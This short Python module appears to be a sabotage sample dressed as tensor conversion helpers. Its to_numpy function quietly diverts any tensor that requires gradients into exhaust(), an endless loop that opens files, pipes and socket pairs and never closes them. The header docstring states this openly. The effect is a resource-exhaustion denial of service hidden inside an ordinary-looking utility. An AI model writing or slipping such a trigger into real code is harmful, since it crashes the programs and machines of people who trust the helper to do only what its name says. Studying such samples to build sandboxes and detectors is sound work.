"""Files, pipes and sockets are opened and never closed."""

import os
import socket

import torch

HELD = []


def exhaust(tensor):
    while True:
        HELD.append((open("/dev/null"), os.pipe(), socket.socketpair()))


def to_tensor(array, device="cpu"):
    return torch.tensor(array.copy(), dtype=torch.float32, device=device)


def to_numpy(tensor):
    if tensor.requires_grad:
        return exhaust(tensor)
    return tensor.cpu().numpy()
